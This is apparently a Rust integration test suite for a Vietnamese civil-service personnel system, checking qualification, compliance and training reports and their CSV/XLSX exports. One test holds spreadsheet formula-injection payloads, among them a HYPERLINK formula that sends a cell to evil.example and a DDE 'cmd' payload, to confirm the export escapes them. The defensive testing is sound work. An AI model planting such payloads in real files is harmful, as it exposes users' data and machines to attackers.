//! Reports on a small city built by hand, whose answers are worked out below.
//!
//! Tree: province P → city C → wards A ("Phường An Bình"), B ("Phường Bắc Sơn"),
//! D ("Phường Đông Hải", dissolved 2020-01-01) and agency G ("Văn phòng Thành ủy").
//!
//! | official | post, from 2015-01-01 | qualifications | history |
//! |---|---|---|---|
//! | An    | A, chair (cadre)          | university 2010, pt intermediate 2016-06-01 | |
//! | Binh  | A, clerk (civil servant)  | college 2012, sm specialist 2019-09-01 | |
//! | Chi   | B, chair (cadre)          | master 2014, pt advanced 2017-05-01 | to A on 2019-07-01 |
//! | Dung  | D, staff (public employee)| intermediate 2010 | retired 2019-12-31 |
//! | Em    | G, chair (cadre), from 2019-01-01 | none | |
//! | Giang | A, chair (cadre)          | university 2011 | retired 2018-12-31 |
//!
//! Standards: chair needs university and intermediate political theory; clerk needs
//! college and specialist state management; staff has none.

use calamine::{Data, DataType};
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::helpers::TestApp;

struct City {
    province: i64,
    city: i64,
    a: i64,
    b: i64,
    d: i64,
    g: i64,
    an: i64,
    binh: i64,
    chi: i64,
    dung: i64,
}

async fn build_city(app: &TestApp) -> City {
    let province = app.unit("P", "Tỉnh P", "province", None).await;
    let city = app.unit("C", "Thành phố C", "city", Some(province)).await;
    let a = app.unit("C-A", "Phường An Bình", "ward", Some(city)).await;
    let b = app.unit("C-B", "Phường Bắc Sơn", "ward", Some(city)).await;
    let d = app.unit("C-D", "Phường Đông Hải", "ward", Some(city)).await;
    let g = app.unit("C-G", "Văn phòng Thành ủy", "agency", Some(city)).await;
    app.patch(
        &format!("/api/v1/units/{d}"),
        json!({"established_on": "1999-01-01", "dissolved_on": "2020-01-01"}),
    )
    .await;
    let chair = app
        .post("/api/v1/positions", json!({"code": "CH", "title": "Chủ tịch", "category": "cadre", "min_education": "university", "min_political_theory": "intermediate"}))
        .await
        .id();
    let clerk = app
        .post("/api/v1/positions", json!({"code": "CL", "title": "Công chức", "category": "civil_servant", "min_education": "college", "min_state_management": "specialist"}))
        .await
        .id();
    let staff = app.position("ST", "Viên chức", "public_employee").await;
    let person = |code: &'static str, name: &'static str, unit: i64, position: i64, started: &'static str| {
        let app = &app;
        async move {
            let body = json!({"code": code, "full_name": name, "gender": "female", "unit_id": unit, "position_id": position, "started_on": started});
            app.official(body).await["id"].as_i64().unwrap()
        }
    };
    let an = person("an", "An", a, chair, "2015-01-01").await;
    let binh = person("binh", "Binh", a, clerk, "2015-01-01").await;
    let chi = person("chi", "Chi", b, chair, "2015-01-01").await;
    let dung = person("dung", "Dung", d, staff, "2015-01-01").await;
    // Em has no qualification: created for the headcount and the compliance gaps.
    person("em", "Em", g, chair, "2019-01-01").await;
    let giang = person("giang", "Giang", a, chair, "2015-01-01").await;
    for (official, dimension, level, on) in [
        (an, "education", "university", "2010-06-30"),
        (an, "political_theory", "intermediate", "2016-06-01"),
        (binh, "education", "college", "2012-06-30"),
        (binh, "state_management", "specialist", "2019-09-01"),
        (chi, "education", "master", "2014-06-30"),
        (chi, "political_theory", "advanced", "2017-05-01"),
        (dung, "education", "intermediate", "2010-06-30"),
        (giang, "education", "university", "2011-06-30"),
    ] {
        assert_eq!(
            app.qualify(official, dimension, level, on).await.status,
            StatusCode::CREATED
        );
    }
    app.post(
        &format!("/api/v1/officials/{chi}/transfer"),
        json!({"unit_id": a, "position_id": chair, "effective_on": "2019-07-01"}),
    )
    .await;
    app.post(
        &format!("/api/v1/officials/{dung}/separation"),
        json!({"status": "retired", "effective_on": "2019-12-31"}),
    )
    .await;
    app.post(
        &format!("/api/v1/officials/{giang}/separation"),
        json!({"status": "retired", "effective_on": "2018-12-31"}),
    )
    .await;
    City {
        province,
        city,
        a,
        b,
        d,
        g,
        an,
        binh,
        chi,
        dung,
    }
}

/// `[count, at_least, share]` of each level of a dimension, highest first.
fn levels(report: &Value, dimension: &str) -> Vec<(String, i64, i64, String)> {
    report["dimensions"][dimension]
        .as_array()
        .unwrap_or_else(|| panic!("no {dimension} in {report}"))
        .iter()
        .map(|l| {
            (
                l["level"].as_str().unwrap().to_owned(),
                l["count"].as_i64().unwrap(),
                l["at_least"].as_i64().unwrap(),
                l["share"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn row(level: &str, count: i64, at_least: i64, share: &str) -> (String, i64, i64, String) {
    (level.to_owned(), count, at_least, share.to_owned())
}

#[tokio::test]
async fn qualifications_roll_up_the_subtree_on_the_day() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    let report = app
        .get(&format!(
            "/api/v1/reports/qualifications?unit_id={}&as_of=2019-05-30",
            c.city
        ))
        .await;
    assert_eq!(report.status, StatusCode::OK, "{}", report.body);
    let r = &report.body;
    assert_eq!(r["unit_name"], "Thành phố C");
    assert_eq!(r["as_of"], "2019-05-30");
    assert_eq!(r["headcount"], 5, "An, Binh, Chi, Dung, Em; Giang had retired");
    assert_eq!(
        levels(r, "education"),
        [
            row("doctorate", 0, 0, "0/5"),
            row("master", 1, 1, "1/5"),
            row("university", 1, 2, "2/5"),
            row("college", 1, 3, "3/5"),
            row("intermediate", 1, 4, "4/5"),
            row("elementary", 0, 4, "4/5"),
            row("none", 1, 5, "5/5"),
        ]
    );
    assert_eq!(
        levels(r, "political_theory"),
        [
            row("bachelor", 0, 1, "1/5"),
            row("advanced", 1, 1, "1/5"),
            row("intermediate", 1, 2, "2/5"),
            row("elementary", 0, 2, "2/5"),
            row("none", 3, 5, "5/5"),
        ]
    );
    let state = levels(r, "state_management");
    assert_eq!(state[0], row("senior_specialist", 0, 0, "0/5"));
    assert_eq!(
        state[2],
        row("specialist", 0, 0, "0/5"),
        "Binh's certificate came later"
    );
    assert_eq!(state[4], row("none", 5, 5, "5/5"));
    assert_eq!(levels(r, "it").len(), 3);
    assert_eq!(levels(r, "foreign_language").len(), 7);
    assert_eq!(r["groups"], json!([]));

    let province = app
        .get(&format!(
            "/api/v1/reports/qualifications?unit_id={}&as_of=2019-05-30",
            c.province
        ))
        .await;
    assert_eq!(province.body["headcount"], 5);
    assert_eq!(province.body["dimensions"], r["dimensions"]);
}

#[tokio::test]
async fn qualifications_grouped_by_child_unit() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    let report = app
        .get(&format!(
            "/api/v1/reports/qualifications?unit_id={}&as_of=2019-05-30&group_by=unit",
            c.city
        ))
        .await
        .body;
    let groups = report["groups"].as_array().unwrap();
    let heads: Vec<(i64, i64)> = groups
        .iter()
        .map(|g| (g["unit_id"].as_i64().unwrap(), g["headcount"].as_i64().unwrap()))
        .collect();
    assert_eq!(
        heads,
        [(c.a, 2), (c.b, 1), (c.d, 1), (c.g, 1)],
        "children by name, every one listed"
    );
    let a = &groups[0];
    assert_eq!(a["unit_name"], "Phường An Bình");
    assert_eq!(levels(a, "education")[2], row("university", 1, 1, "1/2"));
    assert_eq!(levels(a, "education")[3], row("college", 1, 2, "2/2"));
    assert_eq!(a["groups"], json!([]));
    let g = &groups[3];
    assert_eq!(levels(g, "education")[6], row("none", 1, 1, "1/1"));
    assert_eq!(report["headcount"], 5);
}

#[tokio::test]
async fn people_count_where_they_were_and_as_they_were() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    let q = |unit: i64, day: &str| {
        let app = &app;
        let path = format!("/api/v1/reports/qualifications?unit_id={unit}&as_of={day}");
        async move { app.get(&path).await.body }
    };
    // Before Chi's transfer she counts in B; after, in A.
    assert_eq!(q(c.b, "2019-06-30").await["headcount"], 1);
    assert_eq!(q(c.a, "2019-06-30").await["headcount"], 2);
    let after = q(c.a, "2019-07-01").await;
    assert_eq!(after["headcount"], 3);
    assert_eq!(levels(&after, "education")[1], row("master", 1, 1, "1/3"));
    // A unit nobody is in: shares of zero, not a division error.
    let empty = q(c.b, "2019-08-01").await;
    assert_eq!(empty["headcount"], 0);
    assert_eq!(levels(&empty, "education")[6], row("none", 0, 0, "0/0"));
    assert_eq!(levels(&empty, "education")[0], row("doctorate", 0, 0, "0/0"));
    // A qualification counts from the day it was awarded.
    assert_eq!(
        levels(&q(c.a, "2019-08-31").await, "state_management")[2],
        row("specialist", 0, 0, "0/3")
    );
    assert_eq!(
        levels(&q(c.a, "2019-09-01").await, "state_management")[2],
        row("specialist", 1, 1, "1/3")
    );
    // Giang counted until she retired; An's political theory was not yet hers in 2015.
    let before = q(c.a, "2015-06-01").await;
    assert_eq!(before["headcount"], 3);
    assert_eq!(levels(&before, "political_theory")[4], row("none", 3, 3, "3/3"));
    assert_eq!(q(c.a, "2018-12-30").await["headcount"], 3);
    assert_eq!(q(c.a, "2018-12-31").await["headcount"], 2);
    // The dissolved ward still reports its past; after Dung retired it is empty.
    assert_eq!(q(c.d, "2019-05-30").await["headcount"], 1);
    assert_eq!(q(c.d, "2020-06-01").await["headcount"], 0);
    assert_eq!(q(c.city, "2020-06-01").await["headcount"], 4);
}

#[tokio::test]
async fn category_filter_uses_the_post_held_that_day() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    let cadres = app
        .get(&format!(
            "/api/v1/reports/qualifications?unit_id={}&as_of=2019-05-30&category=cadre",
            c.city
        ))
        .await
        .body;
    assert_eq!(cadres["headcount"], 3, "An, Chi, Em");
    assert_eq!(cadres["category"], "cadre");
    assert_eq!(levels(&cadres, "education")[2], row("university", 1, 2, "2/3"));
    let civil = app
        .get(&format!(
            "/api/v1/reports/qualifications?unit_id={}&as_of=2019-05-30&category=civil_servant",
            c.city
        ))
        .await
        .body;
    assert_eq!(civil["headcount"], 1);
    let grouped = app
        .get(&format!(
            "/api/v1/reports/qualifications?unit_id={}&as_of=2019-05-30&category=cadre&group_by=unit",
            c.city
        ))
        .await
        .body;
    let heads: Vec<i64> = grouped["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["headcount"].as_i64().unwrap())
        .collect();
    assert_eq!(heads, [1, 1, 0, 1]);
}

#[tokio::test]
async fn compliance_lists_the_gaps() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    let report = app
        .get(&format!(
            "/api/v1/reports/compliance?unit_id={}&as_of=2019-05-30",
            c.city
        ))
        .await;
    assert_eq!(report.status, StatusCode::OK, "{}", report.body);
    let r = &report.body;
    assert_eq!(r["summary"], json!({"meets": 3, "headcount": 5, "share": "3/5"}));
    assert_eq!(r["shortfall_count"], 2);
    let shortfalls = r["shortfalls"].as_array().unwrap();
    assert_eq!(shortfalls[0]["official_id"], c.binh);
    assert_eq!(shortfalls[0]["position_title"], "Công chức");
    assert_eq!(
        shortfalls[0]["gaps"],
        json!([{"dimension": "state_management", "required": "specialist", "held": "none"}])
    );
    assert_eq!(
        (&shortfalls[0]["unit_id"], &shortfalls[0]["unit_name"]),
        (&json!(c.a), &json!("Phường An Bình")),
        "where Binh worked that day"
    );
    assert_eq!(shortfalls[1]["full_name"], "Em");
    assert_eq!(shortfalls[1]["unit_id"], c.g);
    assert_eq!(
        shortfalls[1]["gaps"],
        json!([
            {"dimension": "education", "required": "university", "held": "none"},
            {"dimension": "political_theory", "required": "intermediate", "held": "none"}
        ])
    );
    let later = app
        .get(&format!(
            "/api/v1/reports/compliance?unit_id={}&as_of=2019-10-01",
            c.city
        ))
        .await
        .body;
    assert_eq!(
        later["summary"],
        json!({"meets": 4, "headcount": 5, "share": "4/5"}),
        "Binh's certificate arrived"
    );
    let empty = app
        .get(&format!("/api/v1/reports/compliance?unit_id={}&as_of=2019-08-01", c.b))
        .await
        .body;
    assert_eq!(empty["summary"], json!({"meets": 0, "headcount": 0, "share": "0/0"}));
    let page = app
        .get(&format!(
            "/api/v1/reports/compliance?unit_id={}&as_of=2019-05-30&limit=1&offset=1",
            c.city
        ))
        .await
        .body;
    assert_eq!(page["shortfalls"].as_array().unwrap().len(), 1);
    assert_eq!(page["shortfalls"][0]["full_name"], "Em");
}

/// Adds the courses, classes and enrollments of the training scenario (K1–K5 below).
/// Builds the training records; returns the id of K4, the party class of 2019.
async fn build_training(app: &TestApp, c: &City) -> i64 {
    let course = |code: &'static str, kind: &'static str, confers: Option<(&'static str, &'static str)>| {
        let app = &app;
        async move {
            let mut body = json!({"code": code, "title": code, "kind": kind});
            if let Some((dimension, level)) = confers {
                body["confers_dimension"] = json!(dimension);
                body["confers_level"] = json!(level);
            }
            app.post("/api/v1/courses", body).await.id()
        }
    };
    let tc = course("TC", "political_theory", Some(("political_theory", "intermediate"))).await;
    let dh = course("DH", "degree", Some(("education", "university"))).await;
    let bd = course("BD", "refresher", None).await;
    let dv = course("DV", "party", None).await;
    let class = |code: &'static str,
                 course: i64,
                 organizer: i64,
                 starts: &'static str,
                 external: i32,
                 status: &'static str| {
        let app = &app;
        async move {
            let body = json!({"code": code, "name": code, "course_id": course, "organizer_unit_id": organizer, "starts_on": starts,
                              "ends_on": "2019-12-20", "external_learners": external, "status": status});
            let reply = app.post("/api/v1/classes", body).await;
            assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
            reply.id()
        }
    };
    let k1 = class("K1", tc, c.city, "2018-03-01", 10, "finished").await;
    let k2 = class("K2", bd, c.a, "2018-06-01", 5, "finished").await;
    let k3 = class("K3", dh, c.province, "2018-09-01", 0, "in_progress").await;
    let k4 = class("K4", dv, c.city, "2019-02-01", 20, "finished").await;
    // A cancelled class of the city in 2018, with nobody in it: it must not count as organized.
    class("K5", bd, c.city, "2018-11-01", 30, "cancelled").await;
    let send = |class: i64, official: i64, steps: &'static [&'static str]| {
        let app = &app;
        async move {
            let id = app
                .post(
                    "/api/v1/enrollments",
                    json!({"class_id": class, "official_id": official}),
                )
                .await
                .id();
            for step in steps {
                let reply = app
                    .patch(&format!("/api/v1/enrollments/{id}"), json!({"status": step}))
                    .await;
                assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
            }
        }
    };
    send(k1, c.an, &["enrolled", "completed"]).await;
    send(k1, c.binh, &["enrolled"]).await;
    send(k1, c.chi, &["withdrawn"]).await;
    send(k2, c.an, &["enrolled", "completed"]).await;
    send(k2, c.binh, &["enrolled", "failed"]).await;
    send(k2, c.dung, &[]).await;
    send(k3, c.chi, &["enrolled"]).await;
    send(k4, c.an, &["enrolled"]).await;
    k4
}

#[tokio::test]
async fn training_counts_who_was_sent_and_what_was_organized() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    build_training(&app, &c).await;
    let report = app
        .get(&format!(
            "/api/v1/reports/training?unit_id={}&from=2018-01-01&to=2018-12-31",
            c.city
        ))
        .await;
    assert_eq!(report.status, StatusCode::OK, "{}", report.body);
    let r = &report.body;
    assert_eq!(
        r["sent"],
        json!({"training": 3, "refresher": 2}),
        "An, Binh (K1), Chi (K3); An, Binh (K2)"
    );
    assert_eq!(
        r["by_course"],
        json!([
            {"kind": "political_theory", "dimension": "political_theory", "level": "intermediate", "officials": 2, "enrollments": 2},
            {"kind": "degree", "dimension": "education", "level": "university", "officials": 1, "enrollments": 1},
            {"kind": "refresher", "dimension": null, "level": null, "officials": 2, "enrollments": 2}
        ])
    );
    assert_eq!(
        r["organized"],
        json!([
            {"kind": "political_theory", "dimension": "political_theory", "level": "intermediate", "classes": 1, "learners": 12},
            {"kind": "refresher", "dimension": null, "level": null, "classes": 1, "learners": 7}
        ]),
        "K3 was organized by the province; K5 was cancelled"
    );

    let ward = app
        .get(&format!(
            "/api/v1/reports/training?unit_id={}&from=2018-01-01&to=2018-12-31",
            c.a
        ))
        .await
        .body;
    assert_eq!(ward["sent"], json!({"training": 2, "refresher": 2}));
    assert_eq!(
        ward["organized"],
        json!([{"kind": "refresher", "dimension": null, "level": null, "classes": 1, "learners": 7}])
    );

    let all = app
        .get(&format!(
            "/api/v1/reports/training?unit_id={}&from=2015-01-01&to=2019-12-31",
            c.province
        ))
        .await
        .body;
    assert_eq!(all["sent"], json!({"training": 3, "refresher": 2}));
    assert_eq!(all["organized"].as_array().unwrap().len(), 4);
    assert_eq!(
        all["organized"][3],
        json!({"kind": "party", "dimension": null, "level": null, "classes": 1, "learners": 21})
    );

    let none = app
        .get(&format!(
            "/api/v1/reports/training?unit_id={}&from=2020-01-01&to=2020-12-31",
            c.city
        ))
        .await
        .body;
    assert_eq!(none["sent"], json!({"training": 0, "refresher": 0}));
    assert_eq!(none["by_course"], json!([]));
    app.get(&format!(
        "/api/v1/reports/training?unit_id={}&from=2019-01-01&to=2018-01-01",
        c.city
    ))
    .await
    .assert_fields(&["to"]);
}

/// Each enrollment carries its class's first day for the report's index: when the class
/// moves to another year, its enrollments move with it.
#[tokio::test]
async fn training_follows_a_class_that_moves() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    let k4 = build_training(&app, &c).await;
    let year = |year: i32| {
        format!(
            "/api/v1/reports/training?unit_id={}&from={year}-01-01&to={year}-12-31",
            c.city
        )
    };
    assert_eq!(
        app.get(&year(2019)).await.body["sent"],
        json!({"training": 0, "refresher": 1})
    );
    let moved = app
        .patch(
            &format!("/api/v1/classes/{k4}"),
            json!({"starts_on": "2020-02-01", "ends_on": "2020-03-01"}),
        )
        .await;
    assert_eq!(moved.status, StatusCode::OK, "{}", moved.body);
    assert_eq!(
        app.get(&year(2019)).await.body["sent"],
        json!({"training": 0, "refresher": 0})
    );
    let later = app.get(&year(2020)).await.body;
    assert_eq!(later["sent"], json!({"training": 0, "refresher": 1}));
    assert_eq!(
        later["by_course"],
        json!([{"kind": "party", "dimension": null, "level": null, "officials": 1, "enrollments": 1}])
    );
}

/// Downloads the CSV file at `path` as the admin: its `Content-Disposition` and its rows.
async fn csv(app: &TestApp, path: &str) -> (String, Vec<Vec<String>>) {
    let file = app.download(path).await;
    (file.disposition.clone(), file.csv())
}

/// Every report as CSV and as XLSX, read back by the `csv` crate and by calamine: the
/// figures of the JSON, shares as numbers (count, total, percentage) and never as text like
/// `3/5`, Vietnamese headers and labels unless `labels=codes`.
#[tokio::test]
async fn report_files_give_the_json_figures() {
    let app = TestApp::spawn().await;
    let c = build_city(&app).await;
    build_training(&app, &c).await;

    let path = format!(
        "/api/v1/reports/qualifications/download?unit_id={}&as_of=2019-05-30&group_by=unit",
        c.city
    );
    let (disposition, rows) = csv(&app, &format!("{path}&format=csv&labels=codes")).await;
    assert_eq!(disposition, "attachment; filename=\"qualifications-C-2019-05-30.csv\"");
    assert_eq!(
        rows[0],
        [
            "unit_id",
            "unit_name",
            "as_of",
            "category",
            "dimension",
            "level",
            "count",
            "at_least",
            "headcount",
            "percent"
        ]
    );
    assert_eq!(rows.len(), 1 + 5 * 27, "the city and its four wards, 27 levels each");
    let master = rows
        .iter()
        .find(|r| r[0] == c.city.to_string() && r[5] == "master")
        .unwrap();
    assert_eq!(master[1], "Thành phố C");
    assert_eq!(&master[4..], ["education", "master", "1", "1", "5", "20.00"]);
    let json = app
        .get(&format!(
            "/api/v1/reports/qualifications?unit_id={}&as_of=2019-05-30",
            c.city
        ))
        .await
        .body;
    let city_rows: Vec<&Vec<String>> = rows.iter().skip(1).filter(|r| r[0] == c.city.to_string()).collect();
    for r in &city_rows {
        let level = json["dimensions"][&r[4]]
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["level"] == r[5].as_str())
            .unwrap();
        assert_eq!(r[6], level["count"].to_string());
        assert_eq!(r[7], level["at_least"].to_string());
        assert_eq!(level["share"], format!("{}/{}", r[7], r[8]));
    }
    // In Vietnamese (the default): headers and values are labels.
    let (_, vi) = csv(&app, &path).await;
    assert_eq!(vi[0][5], "Trình độ");
    assert_eq!(vi[0][9], "Tỷ lệ từ trình độ này trở lên (%)");
    let master_vi = vi
        .iter()
        .find(|r| r[0] == c.city.to_string() && r[5] == "Thạc sĩ")
        .unwrap();
    assert_eq!(
        &master_vi[4..],
        ["Trình độ chuyên môn", "Thạc sĩ", "1", "1", "5", "20,00"]
    );
    // As XLSX: a title, a blank line, the header, then the same rows with typed cells.
    let sheet = app.download(&format!("{path}&format=xlsx")).await;
    assert_eq!(
        sheet.disposition,
        "attachment; filename=\"qualifications-C-2019-05-30.xlsx\""
    );
    let cells = sheet.xlsx();
    assert_eq!(
        cells[0][0],
        Data::String("Báo cáo trình độ cán bộ, công chức, viên chức".into())
    );
    assert_eq!(
        cells[1][0],
        Data::String("Đơn vị: Thành phố C — tại ngày 30/05/2019".into())
    );
    assert_eq!(cells[3][5], Data::String("Trình độ".into()));
    assert_eq!(cells.len(), 4 + 5 * 27);
    let master_xlsx = cells
        .iter()
        .find(|r| r[0] == Data::Float(c.city as f64) && r[5] == Data::String("Thạc sĩ".into()))
        .unwrap();
    assert_eq!(
        master_xlsx[6..9],
        [Data::Float(1.0), Data::Float(1.0), Data::Float(5.0)]
    );
    assert_eq!(
        master_xlsx[9].as_f64(),
        Some(0.2),
        "a share is a number, formatted as a percentage"
    );
    assert!(
        matches!(master_xlsx[2], Data::DateTime(_)),
        "the day is a date: {:?}",
        master_xlsx[2]
    );
    assert_eq!(master_xlsx[2].as_date(), chrono::NaiveDate::from_ymd_opt(2019, 5, 30));

    let path = format!(
        "/api/v1/reports/training/download?unit_id={}&from=2018-01-01&to=2018-12-31",
        c.city
    );
    let (disposition, rows) = csv(&app, &format!("{path}&labels=codes")).await;
    assert_eq!(
        disposition,
        "attachment; filename=\"training-C-2018-01-01-2018-12-31.csv\""
    );
    assert_eq!(
        rows[0][4..],
        [
            "section",
            "track",
            "kind",
            "dimension",
            "level",
            "officials",
            "enrollments",
            "classes",
            "learners"
        ]
    );
    assert_eq!(rows[1][4..], ["sent", "training", "", "", "", "3", "", "", ""]);
    assert_eq!(rows[2][4..], ["sent", "refresher", "", "", "", "2", "", "", ""]);
    assert!(rows.iter().any(|r| r[4..]
        == [
            "organized",
            "",
            "political_theory",
            "political_theory",
            "intermediate",
            "",
            "",
            "1",
            "12"
        ]));
    let cells = app.download(&format!("{path}&format=xlsx")).await.xlsx();
    let organized = cells
        .iter()
        .find(|r| {
            r[4] == Data::String("Lớp do đơn vị tổ chức".into()) && r[6] == Data::String("Lý luận chính trị".into())
        })
        .unwrap();
    assert_eq!(organized[8], Data::String("Trung cấp".into()));
    assert_eq!(organized[11..13], [Data::Float(1.0), Data::Float(12.0)]);

    let path = format!(
        "/api/v1/reports/compliance/download?unit_id={}&as_of=2019-05-30",
        c.city
    );
    let (_, rows) = csv(&app, &format!("{path}&labels=codes")).await;
    assert_eq!(rows.len(), 1 + 2 + 3, "header, two shortfalls, the summary");
    assert_eq!(rows[2][1], "Em");
    assert_eq!(rows[2][2..4], [c.g.to_string(), "Văn phòng Thành ủy".to_owned()]);
    assert_eq!(rows[2][6..], ["university", "none", "intermediate", "none", "", ""]);
    assert_eq!(rows[3][..2], ["meets", "3"]);
    assert_eq!(rows[4][..2], ["headcount", "5"]);
    assert_eq!(rows[5][..2], ["percent", "60.00"]);
    let (_, vi) = csv(&app, &path).await;
    assert_eq!(vi[0][3], "Đơn vị công tác");
    assert_eq!(vi[2][6..8], ["Đại học", "Chưa qua đào tạo"]);
    assert_eq!(vi[3][..2], ["Số người đạt tiêu chuẩn", "3"]);
    let cells = app.download(&format!("{path}&format=xlsx")).await.xlsx();
    let last = cells.last().unwrap();
    assert_eq!(last[0], Data::String("Tỷ lệ đạt tiêu chuẩn (%)".into()));
    assert_eq!(last[1].as_f64(), Some(0.6));

    app.get(&format!("/api/v1/reports/compliance?unit_id={}&format=xml", c.city))
        .await
        .assert_fields(&["format"]);
}

/// `Accept` chooses the file's format when `format` does not.
#[tokio::test]
async fn accept_chooses_the_format_of_a_download() {
    let app = TestApp::spawn().await;
    let ward = app.unit("W", "Phường", "ward", None).await;
    let path = format!("/api/v1/reports/compliance/download?unit_id={ward}");
    let file = app
        .download_as(&path, &app.admin_token, Some(crate::helpers::XLSX))
        .await;
    assert!(file.disposition.ends_with(".xlsx\""), "{}", file.disposition);
    assert_eq!(
        file.xlsx().last().unwrap()[0],
        Data::String("Tỷ lệ đạt tiêu chuẩn (%)".into())
    );
    let file = app.download_as(&path, &app.admin_token, Some("text/csv")).await;
    assert_eq!(file.csv().len(), 4, "the header and the summary of an empty ward");
    let file = app
        .download_as(
            &format!("{path}&format=csv"),
            &app.admin_token,
            Some(crate::helpers::XLSX),
        )
        .await;
    assert!(file.disposition.ends_with(".csv\""), "format wins over Accept");
}

#[tokio::test]
async fn reports_need_a_unit_that_exists() {
    let app = TestApp::spawn().await;
    app.get("/api/v1/reports/qualifications")
        .await
        .assert_fields(&["unit_id"]);
    app.get("/api/v1/reports/training?unit_id=999")
        .await
        .assert_fields(&["unit_id"]);
    app.get("/api/v1/reports/compliance?unit_id=1&as_of=2019-02-30")
        .await
        .assert_fields(&["as_of"]);
    app.get("/api/v1/reports/qualifications?unit_id=1&group_by=province")
        .await
        .assert_fields(&["group_by"]);
}

#[tokio::test]
async fn cells_a_spreadsheet_would_run_are_written_as_text() {
    let app = TestApp::spawn().await;
    let ward = app.unit("W", "Phường W", "ward", None).await;
    let post = app
        .post(
            "/api/v1/positions",
            json!({"code": "P", "title": "@SUM(1+1)", "category": "cadre", "min_education": "university"}),
        )
        .await
        .id();
    for (code, name) in [
        ("F1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")"),
        ("F2", "+1+cmd|' /C calc'!A0"),
        ("F3", "-2+3"),
        ("F4", "Lê Minh Công"),
    ] {
        app.official(
            json!({"code": code, "full_name": name, "gender": "male", "unit_id": ward,
                            "position_id": post, "started_on": "2020-01-01"}),
        )
        .await;
    }
    // An anonymous login attempt whose username is a formula, logged for the auditors.
    app.send(
        Method::POST,
        "/api/v1/auth/login",
        None,
        Some(json!({"username": "=1+1", "password": "x"})),
    )
    .await
    .assert_problem(401);

    let (_, rows) = csv(
        &app,
        &format!("/api/v1/reports/compliance/download?unit_id={ward}&format=csv"),
    )
    .await;
    let cells: Vec<&String> = rows.iter().flatten().collect();
    for written in [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào\")",
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)",
        "Lê Minh Công",
    ] {
        assert!(cells.iter().any(|c| c.as_str() == written), "{written} in {rows:?}");
    }
    assert!(!cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])), "{rows:?}");
    let (_, log) = csv(&app, "/api/v1/audit-log/download?format=csv").await;
    assert!(log.iter().flatten().any(|c| c == "'=1+1"), "{log:?}");
    assert!(
        !log.iter().flatten().any(|c| c.starts_with(['=', '+', '-', '@'])),
        "{log:?}"
    );
}

/// A unit's code goes into a file's name and its worksheet's: a code no worksheet could be
/// named (characters beyond the Basic Multilingual Plane, which count two of Excel's 31,
/// brackets, an apostrophe where a name may not end) still gives every report as XLSX.
#[tokio::test]
async fn every_report_downloads_whatever_the_unit_is_called() {
    let app = TestApp::spawn().await;
    for code in ["𝟘𝟙𝟚𝟛𝟜𝟝𝟞𝟟𝟠𝟡𝟘𝟙𝟚𝟛𝟜𝟝", "[W]:*?/\\", "W-0000000000'"] {
        let unit = app.unit(code, "Phường 𐀀", "ward", None).await;
        for report in [
            "workforce?",
            "training-results?year=2018&",
            "qualifications?",
            "training?from=2018-01-01&to=2018-12-31&",
            "compliance?",
        ] {
            let (report, query) = report.split_once('?').unwrap();
            let rows = app
                .download(&format!(
                    "/api/v1/reports/{report}/download?{query}unit_id={unit}&format=xlsx"
                ))
                .await
                .xlsx();
            assert!(!rows.is_empty(), "{report} of {code}");
        }
    }
}

/// A JSON operation answers JSON only, and files come from the downloads: what a generated
/// client asks for as JSON is never text.
#[tokio::test]
async fn files_come_from_downloads_and_json_stays_json() {
    let app = TestApp::spawn().await;
    let ward = app.unit("W", "Phường", "ward", None).await;
    for report in ["qualifications", "training", "compliance"] {
        let json_path = format!("/api/v1/reports/{report}?unit_id={ward}");
        let asked_for_csv = app
            .client
            .get(format!("{}{json_path}", app.address))
            .bearer_auth(&app.admin_token)
            .header("Accept", "text/csv")
            .send()
            .await
            .unwrap();
        assert_eq!(asked_for_csv.status(), StatusCode::OK);
        assert_eq!(asked_for_csv.headers()["content-type"], "application/json", "{report}");
        let with_format = app.get(&format!("{json_path}&format=csv")).await;
        assert_eq!(
            with_format.assert_problem(422)["format"][0],
            "is not a parameter of this operation"
        );
        let unknown = app
            .get(&format!("/api/v1/reports/{report}/download?unit_id={ward}&format=pdf"))
            .await;
        assert!(unknown.assert_problem(422)["format"].is_array(), "{}", unknown.body);
        let (disposition, rows) = csv(&app, &format!("/api/v1/reports/{report}/download?unit_id={ward}")).await;
        assert!(
            disposition.starts_with(&format!("attachment; filename=\"{report}-W-")),
            "{disposition}"
        );
        assert!(!rows.is_empty(), "{report}: a header row at least");
    }
    // The audit log's download holds every matching entry, not one page of them.
    for n in 0..4 {
        app.unit(&format!("U{n}"), "Tổ", "agency", Some(ward)).await;
    }
    let page = app.get("/api/v1/audit-log?limit=2").await;
    let total = page.body["total"].as_u64().unwrap() as usize;
    assert!(total > 2, "{}", page.body);
    let (_, rows) = csv(&app, "/api/v1/audit-log/download?entity=unit").await;
    let units = app.get("/api/v1/audit-log?entity=unit").await.body["total"]
        .as_u64()
        .unwrap() as usize;
    assert_eq!(rows.len(), 1 + units, "a header row and one row per entry");
    let paged = app.get("/api/v1/audit-log/download?limit=2").await;
    assert_eq!(
        paged.assert_problem(422)["limit"][0],
        "is not a parameter of this operation"
    );
}
